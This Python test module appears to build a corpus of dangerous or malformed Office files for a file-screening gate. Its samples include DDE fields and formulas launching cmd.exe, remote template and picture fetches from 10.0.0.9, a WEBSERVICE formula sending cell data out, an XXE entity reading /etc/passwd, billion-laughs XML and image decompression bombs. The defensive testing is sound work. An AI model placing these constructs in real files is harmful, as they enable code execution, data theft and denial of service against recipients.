"""Office files that act, fetch, hide or carry: one function a family."""

import random
import struct

from tests.gate.forge import (
    OOXML,
    Families,
    complex_field,
    content_types,
    jpeg,
    packed,
    paragraph,
    png,
    relations,
    sheet,
    word,
    word_body,
    word_parts,
)

OFFICE_FAMILIES = Families()
add = OFFICE_FAMILIES.add

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


@add("macro")
def macro_document() -> bytes:
    return word(main_type="application/vnd.ms-word.document.macroEnabled.main+xml")


@add("macro")
def macro_project_in_a_plain_document() -> bytes:
    return word(
        parts={"word/vbaProject.bin": OLE},
        types={"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
        links=[("vbaProject", "vbaProject.bin", False)],
    )


@add("macro")
def macro_relation_to_a_part_of_innocent_type() -> bytes:
    return word(parts={"word/media/a.png": b""}, links=[("vbaProject", "media/a.png", False)])


@add("phan_la")
def ole_container_called_a_picture() -> bytes:
    return word(parts={"word/media/a.png": OLE}, links=[("image", "media/a.png", False)])


@add("phan_la")
def ole_container_called_printer_settings() -> bytes:
    return word(
        parts={"word/may-in.bin": OLE},
        types={"word/may-in.bin": f"{OOXML}wordprocessingml.printerSettings"},
    )


@add("tep_mau")
def word_template() -> bytes:
    return word(main_type=f"{OOXML}wordprocessingml.template.main+xml")


@add("macro")
def macro_workbook() -> bytes:
    return sheet(types={"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"})


@add("xlsb")
def binary_workbook() -> bytes:
    return sheet(types={"xl/workbook.xml": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"})


@add("ppt")
def presentation() -> bytes:
    return word(main_type=f"{OOXML}presentationml.presentation.main+xml")


@add("ole")
def embedded_ole_object() -> bytes:
    return word(
        parts={"word/embeddings/oleObject1.bin": OLE},
        types={"word/embeddings/oleObject1.bin": f"{OOXML}oleObject"},
        links=[("oleObject", "embeddings/oleObject1.bin", False)],
    )


@add("ole")
def ole_element_alone() -> bytes:
    return word('<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="r0"/></w:object></w:r></w:p>')


@add("ole")
def embedded_package_outside_a_chart() -> bytes:
    return word(
        parts={"word/embeddings/a.xlsx": sheet()},
        types={"word/embeddings/a.xlsx": f"{OOXML}spreadsheetml.sheet"},
        links=[("package", "embeddings/a.xlsx", False)],
    )


@add("activex")
def activex_control() -> bytes:
    return word(
        parts={"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='x'/>"},
        types={"word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        links=[("control", "activeX/activeX1.xml", False)],
    )


@add("activex")
def control_element_alone() -> bytes:
    return word('<w:p><w:r><w:control r:id="r0"/></w:r></w:p>')


@add("truong_nguy_hiem")
def dde_field() -> bytes:
    return word(complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))


@add("truong_nguy_hiem")
def dde_field_cut_into_runs() -> bytes:
    return word(complex_field(" D", "DE", "AUTO c:\\\\cmd.exe"))


@add("truong_nguy_hiem")
def dde_field_in_short_form() -> bytes:
    return word('<w:p><w:fldSimple w:instr=" dde cmd "/></w:p>')


@add("truong_nguy_hiem")
def dde_field_left_open() -> bytes:
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>'
    )
    return word(body)


@add("truong_nguy_hiem")
def field_whose_keyword_comes_from_a_field() -> bytes:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    quoted = "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>"
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return word(f"<w:p>{begin}{begin}{quoted}{end}<w:r><w:instrText> cmd</w:instrText></w:r>{end}</w:p>")


@add("truong_nguy_hiem")
def include_text_field_in_a_header() -> bytes:
    body = complex_field(" INCLUDETEXT \\\\\\\\may-chu\\\\a.docx ")
    return word(
        parts={"word/header1.xml": word_body(body)},
        types={"word/header1.xml": f"{OOXML}wordprocessingml.header+xml"},
        links=[("header", "header1.xml", False)],
    )


@add("truong_nguy_hiem")
def macro_button_field() -> bytes:
    return word(complex_field(" MACROBUTTON TuChay Bấm vào đây "))


@add("anh_ngoai")
def picture_field_from_outside() -> bytes:
    return word(complex_field(' INCLUDEPICTURE "http://10.0.0.9/a.png" \\d '))


@add("lien_ket_ngoai")
def hyperlink_field_to_a_share() -> bytes:
    return word(complex_field(' HYPERLINK "\\\\\\\\10.0.0.9\\\\chia-se\\\\a.exe" '))


@add("chen_tep")
def alt_chunk() -> bytes:
    return word(
        '<w:altChunk r:id="r0"/>',
        parts={"word/a.html": "<html/>"},
        types={"word/a.html": "text/html"},
        links=[("aFChunk", "a.html", False)],
    )


@add("chen_tep")
def alt_chunk_called_plain_xml() -> bytes:
    return word(parts={"word/a.xml": "<html/>"}, links=[("aFChunk", "a.xml", False)])


@add("chen_tep")
def sub_document() -> bytes:
    return word('<w:subDoc r:id="r0"/>')


@add("mau_ngoai")
def external_template() -> bytes:
    return word(
        parts={
            "word/settings.xml": word_body(""),
            "word/_rels/settings.xml.rels": relations([("attachedTemplate", "http://10.0.0.9/a.dotm", True)]),
        },
        types={"word/settings.xml": f"{OOXML}wordprocessingml.settings+xml"},
    )


@add("anh_ngoai")
def external_image() -> bytes:
    return word(links=[("image", "http://10.0.0.9/theo-doi.png", True)])


@add("anh_ngoai")
def external_image_in_a_shape() -> bytes:
    return word('<w:p><w:r><w:pict><v:imagedata src="file://10.0.0.9/a/b.png"/></w:pict></w:r></w:p>')


@add("lien_ket_ngoai")
def external_link_to_a_file() -> bytes:
    return word(links=[("hyperlink", "file:///C:/Windows/System32/calc.exe", True)])


@add("lien_ket_ngoai")
def external_link_to_a_script() -> bytes:
    return word(links=[("hyperlink", "javascript:alert(1)", True)])


@add("ole")
def external_ole_object() -> bytes:
    return word(links=[("oleObject", "mhtml:http://10.0.0.9/a.html!x", True)])


@add("lien_ket_ngoai")
def external_relation_of_an_unknown_kind() -> bytes:
    return word(links=[("theme", "http://10.0.0.9/theme.xml", True)])


@add("chen_tep")
def frameset_in_web_settings() -> bytes:
    return word(
        parts={
            "word/webSettings.xml": f"<w:webSettings xmlns:w='w'>{paragraph()}</w:webSettings>",
            "word/_rels/webSettings.xml.rels": relations([("frame", "http://10.0.0.9/", True)]),
        },
        types={"word/webSettings.xml": f"{OOXML}wordprocessingml.webSettings+xml"},
    )


@add("tron_thu")
def mail_merge_source() -> bytes:
    return word("<w:mailMerge><w:query w:val='select'/></w:mailMerge>")


@add("tien_ich")
def video_from_the_web() -> bytes:
    return word('<w:p><w:r><webVideoPr xmlns="x" embeddedHtml="iframe"/></w:r></w:p>')


@add("tien_ich")
def web_extension() -> bytes:
    return word(
        parts={"word/webextensions/taskpanes.xml": "<a/>"},
        types={"word/webextensions/taskpanes.xml": "application/vnd.ms-office.webextensiontaskpanes+xml"},
    )


@add("tien_ich")
def script_in_a_drawing() -> bytes:
    return word(
        parts={"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'},
        types={"word/media/a.svg": "image/svg+xml"},
    )


@add("xml_doctype")
def doctype() -> bytes:
    return word(parts={"docProps/a.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'})


@add("xml_doctype")
def billion_laughs() -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return packed({**word_parts(), "word/document.xml": f"<!DOCTYPE a [{entities}]><a>&a9;</a>"})


@add("xml_doctype")
def doctype_in_utf16() -> bytes:
    return word(parts={"customXml/a.xml": '<!DOCTYPE a SYSTEM "http://10.0.0.9/a.dtd"><a/>'.encode("utf-16")})


@add("xml_ma_chu")
def unusual_encoding() -> bytes:
    return word(parts={"customXml/a.xml": '<?xml version="1.0" encoding="iso-8859-1"?><a/>'})


@add("xml_sau")
def deep_markup() -> bytes:
    return word("<w:p>" * 5000 + "</w:p>" * 5000)


@add("xml_lon")
def too_many_elements() -> bytes:
    return word("".join(f"<a>{n}</a>" for n in range(650_000)))


@add("xml_lon")
def element_with_thousands_of_attributes() -> bytes:
    return word("<w:p " + " ".join(f'a{n}="1"' for n in range(5000)) + "/>")


@add("xml_hong")
def markup_that_breaks_off() -> bytes:
    return packed({**word_parts(), "word/document.xml": "<w:document"})


@add("thieu_muc_luc")
def missing_content_types() -> bytes:
    members = word_parts()
    del members["[Content_Types].xml"]
    return packed(members)


@add("phan_la")
def part_without_content_type() -> bytes:
    return word(parts={"word/la.dat": b"???"})


@add("phan_la")
def part_of_unknown_content_type() -> bytes:
    return word(parts={"word/la.dat": b"???"}, types={"word/la.dat": "application/x-msdownload"})


@add("zip_trung")
def two_content_types_for_one_part() -> bytes:
    listed = content_types({"word/document.xml": f"{OOXML}wordprocessingml.document.main+xml"})
    override = '<Override PartName="/word/DOCUMENT.xml" ContentType="application/xml"/></Types>'
    return packed({**word_parts(), "[Content_Types].xml": listed.replace("</Types>", override)})


@add("thieu_phan")
def missing_main_part() -> bytes:
    members = word_parts()
    members["_rels/.rels"] = relations([])
    return packed(members)


@add("thieu_phan")
def two_main_parts() -> bytes:
    members = word_parts()
    members["_rels/.rels"] = relations([("officeDocument", "word/document.xml", False)] * 2)
    return packed(members)


@add("thieu_phan")
def relation_to_a_missing_part() -> bytes:
    return word(links=[("image", "../NULL", False)])


@add("cong_thuc_nguy_hiem")
def dde_formula() -> bytes:
    return sheet("<row><c><f>cmd|'/c calc'!A0</f></c></row>")


@add("cong_thuc_nguy_hiem")
def formula_that_calls_the_web() -> bytes:
    return sheet('<row><c><f>_xlfn.WEBSERVICE("http://10.0.0.9/"&amp;A1)</f></c></row>')


@add("so_lieu_ngoai")
def workbook_with_external_book() -> bytes:
    return sheet(
        parts={"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"},
        types={"xl/externalLinks/externalLink1.xml": f"{OOXML}spreadsheetml.externalLink+xml"},
    )


@add("so_lieu_ngoai")
def workbook_with_connections() -> bytes:
    return sheet(
        parts={"xl/connections.xml": "<connections/>"},
        types={"xl/connections.xml": f"{OOXML}spreadsheetml.connections+xml"},
    )


@add("macro")
def name_that_runs_by_itself() -> bytes:
    return sheet(book='<definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames>')


@add("macro")
def old_macro_sheet() -> bytes:
    return sheet(
        parts={"xl/macrosheets/sheet1.xml": "<macrosheet/>"},
        types={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
    )


@add("ole")
def chart_data_inside_chart_data() -> bytes:
    """Packages in packages: only one storey is allowed."""
    inner = sheet(
        parts={"xl/embeddings/b.xlsx": sheet()}, types={"xl/embeddings/b.xlsx": f"{OOXML}spreadsheetml.sheet"}
    )
    return word(
        parts={"word/embeddings/a.xlsx": inner},
        types={"word/embeddings/a.xlsx": f"{OOXML}spreadsheetml.sheet"},
    )


@add("anh_lon")
def picture_bomb_in_a_document() -> bytes:
    return word(parts={"word/media/a.png": png(30_000, 30_000, rows=b"\0" * 100)})


@add("anh_lon")
def jpeg_bomb_in_a_document() -> bytes:
    content = bytearray(jpeg())
    frame = content.index(b"\xff\xc0")
    content[frame + 5 : frame + 9] = b"\xff\xff\xff\xff"
    return word(parts={"word/media/a.jpeg": bytes(content)})


@add("vung_lon")
def one_merged_range_over_the_whole_sheet() -> bytes:
    return sheet("</sheetData><mergeCells><mergeCell ref='A1:XFD1048576'/></mergeCells><sheetData>")


@add("vung_lon")
def one_link_over_the_whole_sheet() -> bytes:
    link = "<hyperlinks><hyperlink ref='$A$1:$XFD$1048576' display='x'/></hyperlinks>"
    return sheet(f"</sheetData>{link}<sheetData>")


@add("macro")
def macro_type_in_other_letters() -> bytes:
    return word(main_type="APPLICATION/vnd.ms-word.document.MACROENABLED.main+xml")


@add("anh_lon")
def gif_bomb_in_a_document() -> bytes:
    content = b"GIF89a" + struct.pack("<HH", 60_000, 60_000) + bytes(50)
    return word(parts={"word/media/a.png": content})


@add("anh_lon")
def bmp_bomb_in_a_document() -> bytes:
    content = b"BM" + bytes(16) + struct.pack("<ll", 60_000, -60_000) + bytes(50)
    return word(parts={"word/media/a.png": content})


@add("tien_ich")
def drawing_that_runs_when_loaded() -> bytes:
    return word(
        parts={"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'},
        types={"word/media/a.svg": "image/svg+xml"},
    )


@add("lien_ket_ngoai")
def shape_that_links_to_a_file() -> bytes:
    return word('<w:p><w:r><w:pict><v:shape href="file:///C:/a.exe"/></w:pict></w:r></w:p>')


@add("thieu_phan")
def missing_top_relations() -> bytes:
    members = word_parts()
    del members["_rels/.rels"]
    return packed(members)


@add("phan_la")
def main_part_of_another_kind() -> bytes:
    return word(main_type=f"{OOXML}wordprocessingml.styles+xml")


@add("phan_la")
def relations_that_call_themselves_something_else() -> bytes:
    return word(types={"word/_rels/document.xml.rels": "application/xml"})


@add("ole")
def word_file_called_chart_data() -> bytes:
    return word(
        parts={"word/embeddings/a.xlsx": word()},
        types={"word/embeddings/a.xlsx": f"{OOXML}spreadsheetml.sheet"},
    )


@add("xml_sau")
def fields_in_fields_in_fields() -> bytes:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF</w:instrText></w:r>'
    return word(f"<w:p>{begin * 50}</w:p>")


@add("xml_lon")
def one_huge_part() -> bytes:
    numbers = random.Random(7).randbytes(120_000).hex() + "0" * 17_000_000
    return packed({**word_parts(), "word/document.xml": word_body(paragraph(numbers))})
